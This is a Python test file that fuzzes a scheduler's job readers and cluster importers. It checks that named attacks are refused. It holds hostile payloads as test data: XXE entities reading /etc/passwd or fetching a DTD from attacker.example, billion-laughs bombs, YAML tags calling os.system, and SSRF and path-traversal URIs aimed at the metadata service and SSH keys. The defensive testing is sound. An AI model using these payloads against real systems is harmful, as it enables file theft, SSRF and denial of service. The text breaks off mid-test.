"""Hostile input: every job reader and every cluster importer fuzzed in one place, plus the named attacks.

Why one suite: the per-format fuzzers (``tests/solver/jobs/test_*_fuzz.py``,
``tests/topology/test_importers_fuzz.py``) each guard one reader; this suite is the evidence that ALL
entry points for untrusted text hold the same line, and it counts what it tried. The contract:

* a job reader (OJS JSON, Flux YAML, SSS XML, and format detection on raw text) never raises: it returns
  ``ReadResult`` objects, each ``ok`` with a job or refused with issues whose codes are in ``ISSUE_CODES``;
* a cluster importer (OJS workers, Kubernetes, Slurm, JGF, placer's inventory), and the graph build after
  it, raises nothing but ``TopologyError``.

The named attacks, each with the code that refuses it: XML external entities, external DTDs and entity
expansion ("billion laughs"); YAML tags that construct Python objects (with a marker file proving no side
effect); YAML alias bombs, 10,000-deep nesting and 20 MB documents, bounded in time (``perf_counter``)
and memory (``tracemalloc``); node-selector and label injection (OJS ML resources §15.4, code
``denied``); URI tricks (§15.2-15.3, ML extensions §12: traversal, percent-encoding, credentials,
relative ``file://``, system directories, disallowed schemes, SSRF; code ``uri``).

:data:`TARGETS` and :func:`fuzz` are reused by ``benchmarks/reliability_numbers.py``.
"""

from __future__ import annotations

import copy
import json
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from placer.solver.jobs.errors import ISSUE_CODES, JobValidationError
from placer.solver.jobs.formats.slurm import with_slurm_ranks
from placer.solver.jobs.load import check_batch, read_object, read_text
from placer.solver.jobs.model import Job, Placement, ReadResult
from placer.solver.jobs.options import ReadOptions
from placer.solver.jobs.parse import parse_yaml as parse_job_yaml
from placer.solver.jobs.queues import load_queue_configs
from placer.topology import Inventory
from placer.topology.build import build_cluster
from placer.topology.errors import TopologyError
from placer.topology.importers import parse_jgf, parse_kubernetes, parse_ojs_workers, parse_slurm
from placer.topology.importers.slurm_jobs import squeue_running
from placer.topology.importers.slurm_licenses import parse_slurm_licenses
from placer.topology.importers.slurm_partitions import parse_slurm_partitions
from placer.topology.importers.slurm_qos import parse_slurm_qos
from placer.topology.importers.slurm_reservations import slurm_reservations
from placer.topology.inventory_file import inventory_from_document, read_inventory
from placer.topology.load import detect_cluster_format
from placer.topology.safe_load import parse_text
from tests.support import alarm_after, containers

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples"
FIXTURES = REPO / "tests" / "fixtures"

#: Generous bounds for the resource-exhaustion attacks (the refusals take milliseconds).
MAX_SECONDS = 2.0
MAX_PEAK_BYTES = 200 * 1024 * 1024
#: Wall time after which a call still busy is interrupted (TimeoutError) rather than left to hang the suite.
HANG_S = 3.0

# -- seeds: real documents of every format, to mutate ---------------------------------------------------


def _json(path: Path) -> Any:
    return json.loads(path.read_text())


def _yaml(path: Path) -> Any:
    return parse_job_yaml(path.read_text(), source=str(path))


OJS_SEEDS = [
    *_json(EXAMPLES / "jobs" / "batch.json"),
    _json(EXAMPLES / "jobs" / "pipeline.json"),
    {
        "id": "seed",
        "type": "ml.train",
        "queue": "q",
        "ext_ml_gpu_count": 2,
        "ext_ml_node_selector": {"net": "ib"},
        "ext_ml_affinity": {"required": [{"key": "zone", "operator": "In", "values": ["a"]}]},
        "ext_ml_checkpoint_storage_uri": "s3://ckpt/run/",
        "ext_ml_model_registry_uri": "hf://org/model@main",
        "ext_mlx_training_dataset_uri": "s3://data/train/",
        "meta": {"last_checkpoint": {"epoch": 1, "storage_key": "s3://ckpt/run/e1"}},
    },
]
FLUX_SEEDS = [
    _yaml(EXAMPLES / "jobs" / "mpi-job.flux.yaml"),
    _yaml(FIXTURES / "flux" / "v1_gpu_nodes.yaml"),
    _yaml(FIXTURES / "flux" / "canonical_gpu_range.yaml"),
]
SSS_SEEDS = [
    (EXAMPLES / "jobs" / "analysis.sss.xml").read_text(),
    *[p.read_text() for p in sorted((FIXTURES / "sss").glob("*.xml"))[:8]],
]
K8S_NODES = _json(EXAMPLES / "importers" / "kubernetes_nodes.json")
K8S_PODS = _json(EXAMPLES / "importers" / "kubernetes_pods.json")
OJS_WORKERS = _json(EXAMPLES / "importers" / "ojs_workers.json")
JGF = _json(EXAMPLES / "importers" / "flux_jgf.json")
SLURM = (EXAMPLES / "importers" / "slurm_nodes.txt").read_text()
INVENTORIES = [_yaml(p) for p in sorted((EXAMPLES / "clusters").glob("*.yaml"))]

# -- strategies -------------------------------------------------------------------------------------------

SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=16),
    st.sampled_from(
        ["8", "-1", "1e400", "12Zi", "2x4", "nvidia-h100", "In", "gpu", "s3://b/../x/", "\x00", "", "Node"]
    ),
)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.one_of(st.text(max_size=8), st.integers(0, 3)), inner, max_size=4),
    ),
    max_leaves=16,
)


@st.composite
def mutated(draw: st.DrawFn, seeds: list[Any]) -> Any:
    """A seed document with 1-5 places replaced by random JSON, deleted, or duplicated elsewhere."""
    doc = copy.deepcopy(draw(st.sampled_from(seeds)))
    for _ in range(draw(st.integers(1, 5))):
        places = containers(doc)
        target = places[draw(st.integers(0, len(places) - 1))]
        if not target:
            continue
        keys = list(target) if isinstance(target, dict) else list(range(len(target)))
        key = keys[draw(st.integers(0, len(keys) - 1))]
        how = draw(st.sampled_from(["replace", "delete", "copy"]))
        if how == "delete" and isinstance(target, dict):
            del target[key]
        elif how == "copy":
            target[key] = copy.deepcopy(places[draw(st.integers(0, len(places) - 1))])
        else:
            target[key] = draw(JSON)
    return doc


TEXT_TOKENS = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "/>",
        "=",
        '"',
        "'",
        "&amp;",
        "&#0;",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml",
        "?>",
        "Job",
        "JobId",
        "Requested",
        "Processors",
        "Memory",
        "TaskGroup",
        "op=",
        "conj=",
        "\n",
        " ",
        "{",
        "}",
        "[",
        "]",
        ":",
        ",",
        "- ",
        "version: 1",
        "NodeName=",
        "Gres=gpu:",
        "!!",
        "&a",
        "*a",
        "\x00",
        "\ufeff",
    ]
)


@st.composite
def mangled(draw: st.DrawFn, seeds: list[str]) -> str:
    """A seed text with 1-4 slices cut, replaced by tokens or random text."""
    text = draw(st.sampled_from(seeds))
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(text)))
        j = min(len(text), i + draw(st.integers(0, 12)))
        text = text[:i] + draw(st.one_of(TEXT_TOKENS, st.text(max_size=8))) + text[j:]
    return text


RANDOM_TEXT = st.one_of(st.text(max_size=200), st.lists(TEXT_TOKENS, max_size=40).map("".join))

# -- the contracts ----------------------------------------------------------------------------------------


def well_formed(results: Any) -> None:
    """The reader contract: a list of ReadResults, each ok with a job or refused with known issue codes."""
    assert isinstance(results, list)  # an empty batch ([]) holds no job, so no result
    for r in results:
        assert r.ok == (r.job is not None), r
        assert r.ok == (not r.errors), r
        assert all(i.code in ISSUE_CODES for i in [*r.errors, *r.warnings]), r


def only_topology_errors(make: Callable[[], Any]) -> None:
    """The importer contract: an Inventory that builds into a cluster (or a table: Slurm's partitions,
    reservations), or a TopologyError that names where (source, item, message); nothing else escapes."""
    try:
        inv = make()
        if isinstance(inv, Inventory):
            build_cluster(inv, source="fuzz")
    except TopologyError as e:
        assert e.problems and all(p.source and isinstance(p.item, str) and p.message for p in e.problems)


def _slurm_with_tables(item: tuple[Any, str, str, bool]) -> None:
    """Slurm's pending jobs held to hostile partition and QOS tables (the QOS table for preemption, or for
    its limits alone): tables that do not parse are refused where they are read, so only the ones that
    do reach the jobs, whose results must keep the reader contract."""
    doc, partitions_text, qos_text, preempt_qos = item
    try:
        partitions = parse_slurm_partitions(partitions_text, source="fuzz")
    except TopologyError:
        partitions = None
    try:
        qos = parse_slurm_qos(qos_text, source="fuzz", limits_only=not preempt_qos)
    except TopologyError:
        qos = None
    results = read_object(doc, source="fuzz", fmt="slurm", options=OPTIONS)
    tables = {"qos": qos, "qos_limits": None} if preempt_qos else {"qos": None, "qos_limits": qos}
    well_formed(check_batch(with_slurm_ranks(results, partitions=partitions, **tables)))


#: A partition with a QOS and the captured QOS table beside it: the seeds the table fuzz mangles.
QOS_TABLE = (FIXTURES / "slurm" / "sacctmgr-show-qos-22.05.txt").read_text()
PARTITION_WITH_QOS = (
    "PartitionName=gpu Nodes=gpu[01-04],cpu01 Default=YES PriorityTier=3 QoS=capped State=UP\n"
)


OPTIONS = ReadOptions(
    queues=load_queue_configs(
        {"queue": "q", "config": {"ml_defaults": {"ext_ml_gpu_count": 1}, "ml_limits": {"max_gpu_count": 4}}}
    )
)


def _kueue_seed() -> dict[str, Any]:
    """What ``kubectl get clusterqueues,localqueues,cohorts,resourceflavors -A -o json`` prints for two
    ClusterQueues of one cohort (under a parent Cohort with a quota), with cpu, memory, pods and GPU quotas,
    borrowing and lending limits, and their LocalQueues."""
    kueue = "kueue.x-k8s.io/v1beta1"

    def cq(name: str, cohort: str) -> dict[str, Any]:
        resources = [
            {"name": "cpu", "nominalQuota": 9, "borrowingLimit": 4},
            {"name": "memory", "nominalQuota": "36Gi"},
            {"name": "pods", "nominalQuota": 5},
            {"name": "nvidia.com/gpu", "nominalQuota": 8, "lendingLimit": 2},
        ]
        spec = {
            "cohort": cohort,
            "resourceGroups": [
                {
                    "coveredResources": [r["name"] for r in resources],
                    "flavors": [{"name": "h100", "resources": resources}],
                }
            ],
        }
        return {"apiVersion": kueue, "kind": "ClusterQueue", "metadata": {"name": name}, "spec": spec}

    def lq(name: str, cq_name: str) -> dict[str, Any]:
        meta = {"name": name, "namespace": "ml"}
        return {
            "apiVersion": kueue,
            "kind": "LocalQueue",
            "metadata": meta,
            "spec": {"clusterQueue": cq_name},
        }

    parent = {
        "apiVersion": "kueue.x-k8s.io/v1alpha1",
        "kind": "Cohort",
        "metadata": {"name": "org"},
        "spec": {
            "resourceGroups": [
                {
                    "coveredResources": ["nvidia.com/gpu"],
                    "flavors": [
                        {"name": "h100", "resources": [{"name": "nvidia.com/gpu", "nominalQuota": 4}]}
                    ],
                }
            ]
        },
    }
    flavor = {
        "apiVersion": kueue,
        "kind": "ResourceFlavor",
        "metadata": {"name": "h100"},
        "spec": {"nodeLabels": {"gpu": "h100"}},
    }
    child = {"apiVersion": "kueue.x-k8s.io/v1alpha1", "kind": "Cohort", "metadata": {"name": "research"}}
    child["spec"] = {"parentName": "org"}
    items = [flavor, cq("a", "research"), cq("b", "research"), lq("la", "a"), lq("lb", "b"), parent, child]
    return {"apiVersion": "v1", "kind": "List", "items": items}


def _queue_configs(doc: Any) -> None:
    """The queue-configuration contract: configurations, or a JobValidationError naming the problems."""
    try:
        load_queue_configs(doc, source="fuzz")
    except JobValidationError as e:
        assert e.issues and all(i.code in ISSUE_CODES for i in e.issues)


def _reader(fmt: str) -> Callable[[Any], None]:
    return lambda doc: well_formed(check_batch(read_object(doc, source="fuzz", fmt=fmt, options=OPTIONS)))


#: name -> (strategy of hostile inputs, the call whose contract must hold).
TARGETS: dict[str, tuple[st.SearchStrategy[Any], Callable[[Any], None]]] = {
    "reader ojs": (st.one_of(mutated(OJS_SEEDS), JSON), _reader("ojs")),
    "reader flux": (st.one_of(mutated(FLUX_SEEDS), JSON), _reader("flux")),
    "reader sss": (
        st.one_of(mangled(SSS_SEEDS), RANDOM_TEXT),
        lambda text: well_formed(read_text(text, source="fuzz", fmt="sss", options=OPTIONS)),
    ),
    "reader auto-detect": (
        st.one_of(mangled(SSS_SEEDS), RANDOM_TEXT, mutated(OJS_SEEDS + FLUX_SEEDS).map(json.dumps)),
        lambda text: well_formed(read_text(text, source="fuzz", options=OPTIONS)),
    ),
    "reader kubernetes pods": (
        st.one_of(
            mutated(
                [
                    _json(FIXTURES / "kubernetes" / n)
                    for n in ("pending_pods.json", "workloads.json", "lws_priorities.json")
                ]
            ),
            JSON,
        ),
        _reader("kubernetes"),
    ),
    "reader slurm": (
        st.one_of(
            mutated(
                [
                    _json(FIXTURES / "slurm" / n)
                    for n in (
                        "squeue-22.05-options.json",
                        "squeue-22.05-per-gpu.json",
                        "squeue-22.05-licenses.json",
                    )
                ]
            ),
            JSON,
        ),
        _reader("slurm"),
    ),
    "importer slurm running jobs": (
        st.one_of(mutated([_json(FIXTURES / "slurm" / "squeue-22.05-licenses.json")]), JSON),
        lambda doc: only_topology_errors(
            lambda: squeue_running(doc, source="fuzz") if isinstance(doc, dict) else None
        ),
    ),
    "queue config kueue": (st.one_of(mutated([_kueue_seed()]), JSON), _queue_configs),
    "importer slurm licenses": (
        st.one_of(mangled([(FIXTURES / "slurm" / "show-licenses-22.05.txt").read_text()]), RANDOM_TEXT),
        lambda text: only_topology_errors(lambda: parse_slurm_licenses(text, source="fuzz")),
    ),
    "reader slurm text": (
        st.one_of(mangled([(FIXTURES / "slurm" / "show-job-d-22.05-options.txt").read_text()]), RANDOM_TEXT),
        lambda text: well_formed(read_text(text, source="fuzz", options=OPTIONS)),
    ),
    "reader slurm with partition and QOS tables": (
        st.tuples(
            mutated([_json(FIXTURES / "slurm" / "squeue-22.05-options.json")]),
            st.one_of(
                mangled([PARTITION_WITH_QOS, (FIXTURES / "slurm" / "show-partition-22.05.txt").read_text()]),
                RANDOM_TEXT,
            ),
            st.one_of(
                mangled([(FIXTURES / "slurm" / "sacctmgr-show-qos-22.05.txt").read_text()]), RANDOM_TEXT
            ),
            st.booleans(),
        ),
        _slurm_with_tables,
    ),
    "importer slurm reservations": (
        st.one_of(mangled([(FIXTURES / "slurm" / "show-reservation-22.05.txt").read_text()]), RANDOM_TEXT),
        lambda text: only_topology_errors(lambda: slurm_reservations(text, source="fuzz")),
    ),
    "importer slurm partitions": (
        st.one_of(mangled([(FIXTURES / "slurm" / "show-partition-22.05.txt").read_text()]), RANDOM_TEXT),
        lambda text: only_topology_errors(lambda: parse_slurm_partitions(text, source="fuzz")),
    ),
    "importer ojs-workers": (
        st.one_of(mutated([OJS_WORKERS]), JSON),
        lambda doc: only_topology_errors(lambda: parse_ojs_workers(doc, source="fuzz")),
    ),
    "importer kubernetes": (
        st.tuples(st.one_of(mutated([K8S_NODES]), JSON), st.one_of(st.none(), mutated([K8S_PODS]))),
        lambda pair: only_topology_errors(lambda: parse_kubernetes(pair[0], pair[1], source="fuzz")),
    ),
    "importer slurm": (
        st.one_of(mangled([SLURM]), RANDOM_TEXT),
        lambda text: only_topology_errors(lambda: parse_slurm(text, source="fuzz")),
    ),
    "importer jgf": (
        st.one_of(mutated([JGF]), JSON),
        lambda doc: only_topology_errors(lambda: parse_jgf(doc, source="fuzz")),
    ),
    "importer inventory": (
        st.one_of(mutated(INVENTORIES), JSON),
        lambda doc: only_topology_errors(lambda: inventory_from_document(doc, "fuzz")),
    ),
    "cluster format detection": (
        st.one_of(RANDOM_TEXT, JSON, mangled([SLURM])),
        lambda doc: only_topology_errors(lambda: detect_cluster_format(doc, source="fuzz")),
    ),
}


@dataclass
class Tally:
    """Inputs tried against one target and the unexpected exceptions that escaped (kept, not raised)."""

    tried: int = 0
    escaped: list[str] = field(default_factory=list)


def fuzz(name: str, max_examples: int | None = None, *, strict: bool = True) -> Tally:
    """Run target ``name`` under hypothesis; ``strict`` lets a failure propagate (shrunk, for pytest),
    otherwise escapes are counted. ``max_examples`` None: the loaded profile's (``ci``: 60)."""
    strategy, call = TARGETS[name]
    tally = Tally()

    def body(x: Any) -> None:
        tally.tried += 1
        if strict:
            call(x)
            return
        try:
            call(x)
        except Exception as e:  # the numbers script counts what escaped instead of stopping
            tally.escaped.append(f"{type(e).__name__}: {e}"[:300])

    if max_examples is None:
        chosen = settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
    else:
        chosen = settings(
            max_examples=max_examples,
            database=None,
            deadline=None,
            suppress_health_check=list(HealthCheck),
        )
    chosen(given(strategy)(body))()
    return tally


@pytest.mark.parametrize("name", list(TARGETS))
def test_fuzzed_inputs_never_escape(name: str) -> None:
    tally = fuzz(name)
    assert tally.tried >= settings().max_examples // 2, f"{name}: only {tally.tried} inputs tried"
    assert tally.escaped == []


def test_the_contracts_can_fail() -> None:
    # The harness must be able to catch an escape: a call that raises something else than TopologyError.
    with pytest.raises(ZeroDivisionError):
        only_topology_errors(lambda: 1 / 0)
    with pytest.raises(AssertionError):
        well_formed([ReadResult(id="x", ok=True)])


# -- resource bounds ----------------------------------------------------------------------------------------


@dataclass
class Cost:
    seconds: float = 0.0
    peak_bytes: int = 0


def interrupted_after(seconds: float) -> AbstractContextManager[None]:
    """Raise ``TimeoutError`` inside the block after ``seconds`` of wall time (SIGALRM)."""
    return alarm_after(seconds, f"still busy after {seconds:g} s: the input was not refused in bounded time")


@contextmanager
def bounded() -> Iterator[Cost]:
    """Measure wall time and peak Python memory of the block, then assert the generous bounds."""
    cost = Cost()
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        with interrupted_after(HANG_S):  # a parser expanding a bomb fails the test, not hang CI
            yield cost
    finally:
        cost.seconds = time.perf_counter() - t0
        cost.peak_bytes = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert cost.seconds < MAX_SECONDS, f"took {cost.seconds:.2f} s"
    assert cost.peak_bytes < MAX_PEAK_BYTES, f"peak {cost.peak_bytes / 2**20:.0f} MB"


def refused(results: list[Any], code: str = "malformed") -> bool:
    return bool(results) and all(not r.ok and r.errors and r.errors[0].code == code for r in results)


def refused_by_topology(make: Callable[[], Any]) -> bool:
    try:
        make()
    except TopologyError:
        return True
    return False


def topology_entry_points(text: str) -> dict[str, Callable[[], Any]]:
    """Every topology function that takes untrusted JSON/YAML text."""
    return {
        "parse_text": lambda: parse_text(text, source="x"),
        "read_inventory": lambda: read_inventory(text, source="x"),
        "detect_cluster_format": lambda: detect_cluster_format(text, source="x"),
        "parse_kubernetes": lambda: parse_kubernetes(text, source="x"),
        "parse_ojs_workers": lambda: parse_ojs_workers(text, source="x"),
        "parse_jgf": lambda: parse_jgf(text, source="x"),
    }


# -- XML: external entities, DTDs, entity expansion ---------------------------------------------------------

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE Job [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Job><JobId>&xxe;</JobId><Requested><Processors>1</Processors></Requested></Job>"""
XXE_SSRF = """<?xml version="1.0"?>
<!DOCTYPE Job SYSTEM "http://169.254.169.254/latest/meta-data/job.dtd">
<Job><JobId>x</JobId></Job>"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE Job [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<Job><JobId>x</JobId></Job>"""


def _refs(level: int) -> str:
    """Ten references to the entity one level down (``&lol;`` at the bottom)."""
    return f"&lol{level or ''};" * 10


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{_refs(i - 1)}">\n' for i in range(1, 10))
    + "]>\n<Job><JobId>&lol9;</JobId></Job>"
)
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE Job [<!ENTITY a "'
    + "a" * 50_000
    + '">]>\n<Job><JobId>'
    + "&a;" * 50_000
    + "</JobId></Job>"
)


@pytest.mark.parametrize(
    "xml",
    [XXE_FILE, XXE_SSRF, XXE_PARAMETER, BILLION_LAUGHS, QUADRATIC],
    ids=["xxe-file", "xxe-external-dtd", "xxe-parameter-entity", "billion-laughs", "quadratic-blowup"],
)
@pytest.mark.parametrize("fmt", ["sss", "auto"])
def test_xml_entities_and_dtds_are_refused(xml: str, fmt: str) -> None:
    with bounded():
        results = read_text(xml, source="evil.xml", fmt=fmt)
    assert refused(results), results
    text = " ".join(e.message for r in results for e in r.errors)
    assert "root:" not in text and "lollollol" not in text


# -- YAML: object-constructing tags leave no trace --------------------------------------------------------

YAML_PAYLOADS = [
    '!!python/object/apply:os.system ["touch {marker}"]',
    '!!python/object/apply:builtins.open ["{marker}", "w"]',
    '!!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
    "nodes:\n  - !!python/object/apply:os.system ['touch {marker}']\n",
    "version: 1\nresources: !!python/object/apply:os.system ['touch {marker}']\n",
    "!!python/name:os.system",
]


@pytest.mark.parametrize(
    "payload", YAML_PAYLOADS, ids=["system", "open", "popen", "nested", "jobspec", "name"]
)
def test_yaml_object_tags_are_refused_without_side_effect(payload: str, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = payload.format(marker=marker)
    assert refused(read_text(text, source="evil.yaml")), "job reader (auto)"
    assert refused(read_text(text, source="evil.yaml", fmt="flux")), "job reader (flux)"
    for name, call in topology_entry_points(text).items():
        assert refused_by_topology(call), name
    with pytest.raises(ValueError):  # JobValidationError is a ValueError
        load_queue_configs(text, source="evil.yaml")
    assert not marker.exists()


# -- YAML alias bombs, deep nesting, enormous documents ----------------------------------------------------


def alias_bomb() -> str:
    """Nine levels of nine aliases each: 9**9 (387 million) leaves if expanded."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


DEPTH = 10_000
HOSTILE_DOCUMENTS = {
    "yaml-alias-bomb": alias_bomb(),
    "json-deep-arrays": "[" * DEPTH + "]" * DEPTH,
    "json-deep-objects": '{"a":' * DEPTH + "1" + "}" * DEPTH,
    "yaml-deep-flow": "[" * DEPTH + "]" * DEPTH,
    "yaml-deep-block": "".join("  " * i + "a:\n" for i in range(2_000)) + "  " * 2_000 + "b: 1\n",
    "json-20mb": '{"id": "j", "type": "ml.train", "pad": "' + "a" * (20 * 1024 * 1024) + '"}',
    "yaml-20mb": "nodes:\n" + "  - {name: n, cpu_cores: 1}\n" * (20 * 1024 * 1024 // 26),
}


@pytest.mark.parametrize("name", list(HOSTILE_DOCUMENTS))
def test_job_readers_refuse_bombs_deep_and_enormous_documents_quickly(name: str) -> None:
    text = HOSTILE_DOCUMENTS[name]
    with bounded():
        results = read_text(text, source=name)
    assert refused(results), [e for r in results for e in r.errors]


@pytest.mark.parametrize("name", list(HOSTILE_DOCUMENTS))
def test_cluster_importers_refuse_bombs_deep_and_enormous_documents_quickly(name: str) -> None:
    text = HOSTILE_DOCUMENTS[name]
    for entry, call in topology_entry_points(text).items():
        try:
            with bounded():
                assert refused_by_topology(call), entry
        except (AssertionError, TimeoutError) as e:
            raise AssertionError(f"{entry}: {e}") from e


def test_xml_deep_and_enormous_documents_are_refused_quickly() -> None:
    deep = "<Job>" + "<a>" * DEPTH + "</a>" * DEPTH + "</Job>"
    huge = "<Job><JobId>" + "a" * (20 * 1024 * 1024) + "</JobId></Job>"
    for text in (deep, huge):
        with bounded():
            assert refused(read_text(text, source="x.xml", fmt="sss"))


# -- node-selector and label injection (OJS ML resources §15.4) --------------------------------------------

ENVELOPE = {"id": "j", "type": "ml.train", "ext_ml_gpu_count": 1}


@pytest.mark.parametrize(
    ("selector", "path"),
    [
        ({"cost_center": "eng"}, "ext_ml_node_selector.cost_center"),
        ({"security_zone": "dmz"}, "ext_ml_node_selector.security_zone"),
        ({"net": "ib\nsecurity_zone=dmz"}, "ext_ml_node_selector.net"),
        ({"net": "ib,security_zone=dmz"}, "ext_ml_node_selector.net"),
        ({"net": "ib\x00"}, "ext_ml_node_selector.net"),
        ({"net": "x" * 64}, "ext_ml_node_selector.net"),
        ({"k" * 64: "v"}, "ext_ml_node_selector." + "k" * 64),
        ({"net=ib,security_zone": "dmz"}, "ext_ml_node_selector.net=ib,security_zone"),
        ({"cost_center\u200b": "eng"}, "ext_ml_node_selector.cost_center\u200b"),
        ({"net": ""}, "ext_ml_node_selector.net"),
    ],
    ids=[
        "cost_center",
        "security_zone",
        "newline",
        "comma",
        "nul",
        "overlong-value",
        "overlong-key",
        "key-injection",
        "zero-width",
        "empty-value",
    ],
)
def test_selector_injection_is_denied(selector: dict[str, str], path: str) -> None:
    results = read_object({**ENVELOPE, "ext_ml_node_selector": selector}, source="inline")
    assert [(r.ok, [(e.code, e.path) for e in r.errors]) for r in results] == [(False, [("denied", path)])]


@pytest.mark.parametrize(
    ("rule", "part"),
    [
        ({"key": "cost_center", "operator": "In", "values": ["eng"]}, "required"),
        ({"key": "security_zone", "operator": "Exists"}, "required"),
        ({"key": "security_zone", "operator": "In", "values": ["dmz"], "weight": 100}, "preferred"),
        ({"key": "zone", "operator": "In", "values": ["a\nb"]}, "required"),
        ({"key": "zone", "operator": "In", "values": ["a\x1b[2J"]}, "required"),
        ({"key": "zone", "operator": "In", "values": ["a" * 257]}, "required"),
        ({"key": "zone name", "operator": "Exists"}, "required"),
    ],
    ids=["cost_center", "security_zone-exists", "preferred", "newline", "escape", "overlong", "bad-key"],
)
def test_affinity_injection_is_denied(rule: dict[str, Any], part: str) -> None:
    results = read_object({**ENVELOPE, "ext_ml_affinity": {part: [rule]}}, source="inline")
    assert [(r.ok, [(e.code, e.path) for e in r.errors]) for r in results] == [
        (False, [("denied", f"ext_ml_affinity.{part}.{rule['key']}")])
    ]


def test_denied_keys_hold_whatever_the_format() -> None:
    # The guard reads the normalized Job, so a deny-listed key is refused for Flux and SSS jobs too.
    from placer.solver.jobs.guards import check_job

    job = Job(id="j", source_format="flux-rfc25", placement=Placement(node_selector={"cost_center": "x"}))
    assert [(i.code, i.path) for i in check_job(job, ReadOptions())] == [
        ("denied", "placement.node_selector.cost_center")
    ]


def test_clean_selectors_and_rules_are_accepted() -> None:
    # The other side of every test above: sanitary keys and values pass.
    doc = {
        **ENVELOPE,
        "ext_ml_node_selector": {"net": "ib", "topology.kubernetes.io/zone": "us-central1-a"},
        "ext_ml_affinity": {
            "required": [{"key": "compute_capability", "operator": "Gte", "values": ["8.0"]}]
        },
    }
    assert [r.ok for r in read_object(doc, source="inline")] == [True]


# -- URI tricks (OJS ML resources §9.4, §15.2-15.3; ML extensions §12.1, §12.4) ----------------------------

CKPT = "ext_ml_checkpoint_storage_uri"
MODEL = "ext_ml_model_registry_uri"
DATA = "ext_mlx_training_dataset_uri"
HOSTILE_URIS = [
    (CKPT, "s3://ckpt/../etc/"),
    (CKPT, "s3://ckpt/%2e%2e/etc/"),
    (CKPT, "s3://ckpt/%252e%252e/etc/"),
    (CKPT, "s3://ckpt/a%2f..%2fb/"),
    (CKPT, "s3://ckpt\\..\\etc/"),
    (CKPT, "s3://AKIAIOSFODNN7:secret@ckpt/run/"),
    (CKPT, "s3://ckpt/run/?X-Amz-Credential=AKIA&X-Amz-Signature=abc"),
    (CKPT, "gs://ckpt/run/?token=abc"),
    (CKPT, "file://relative/dir/"),
    (CKPT, "file:///etc/cron.d/"),
    (CKPT, "file:///proc/self/"),
    (CKPT, "http://169.254.169.254/latest/meta-data/"),
    (CKPT, "s3://ckpt/run"),
    (CKPT, "s3://ckpt/ run/"),
    (MODEL, "http://169.254.169.254/latest/meta-data/iam/"),
    (MODEL, "https://attacker.example/model.bin"),
    (MODEL, "gopher://127.0.0.1:6379/_FLUSHALL"),
    (MODEL, "file:///root/.ssh/id_rsa"),
    (MODEL, "hf://token@org/model"),
    (DATA, "ftp://data.example/train/"),
    (DATA, "s3://data/../../secrets/"),
    (DATA, "file:///dev/mem"),
]


@pytest.mark.parametrize(("attribute", "uri"), HOSTILE_URIS)
def test_hostile_uris_are_refused(attribute: str, uri: str) -> None:
    results = read_object({**ENVELOPE, attribute: uri}, source="inline")
    assert [(r.ok, [(e.code, e.path) for e in r.errors]) for r in results] == [(False, [("uri", attribute)])]


#: file:// URIs that resolve into a system directory through a path a kernel normalizes (empty segments,
#: ".", an encoded "/"): ML extensions §12.1 "MUST NOT allow arbitrary file system access", and
#: solver/jobs/uris.py rule 5 promises "never below system directories".
FILE_ROOT_BYPASSES = [
    "file:////etc/cron.d/",
    "file:///./etc/cron.d/",
    "file://localhost//etc/cron.d/",
    "file:///%2Fetc/cron.d/",
    "file:///var//run/secrets/",
]


@pytest.mark.parametrize("uri", FILE_ROOT_BYPASSES)
def test_file_uris_cannot_reach_system_directories_through_unnormalized_paths(uri: str) -> None:
    results = read_object({**ENVELOPE, CKPT: uri}, source="inline")
    assert [(r.ok, [(e.code, e.path) for e in r.errors]) for r in results] == [(False, [("uri", CKPT)])]


#: Allowed schemes whose authority is a network host, pointed at the cloud metadata service: the
#: canonical SSRF target OJS ML resources §15.2 ("MUST be validated to prevent ... SSRF attacks") means.
SSRF_BY_HOST = [
    "hdfs://169.254.169.254:8020/models/m/",
    "mlflow://169.254.169.254/models/m/1",
    "hdfs://metadata.google.internal/models/m/",
    "hdfs://[fd00:ec2::254]/models/m/",
]


@pytest.mark.parametrize("uri", SSRF_BY_HOST)
def test_model_uris_cannot_target_the_metadata_service(uri: str) -> None:
    results = read_object({**ENVELOPE, MODEL: uri}, source="inline")
    assert [(r.ok, [(e.code, e.path) for e in r.errors]) for r in results] == [(False, [("uri", MODEL)])]


def test_allowed_prefixes_confine_checkpoints() -> None:
    # §15.3: checkpoint URIs MUST be validated against an allow-list of storage prefixes.
    options = ReadOptions(allowed_uri_prefixes=("s3://ckpt/team-a/",))
    inside = read_object({**ENVELOPE, CKPT: "s3://ckpt/team-a/run-1/"}, options=options)
    outside = read_object({**ENVELOPE, CKPT: "s3://ckpt/team-b/run-1/"}, options=options)
    assert [r.ok for r in inside] == [True]
    assert [(r.ok, [e.code for e in r.errors]) for r in outside] == [(False, ["uri"])]


@pytest.mark.parametrize(
    ("attribute", "uri"),
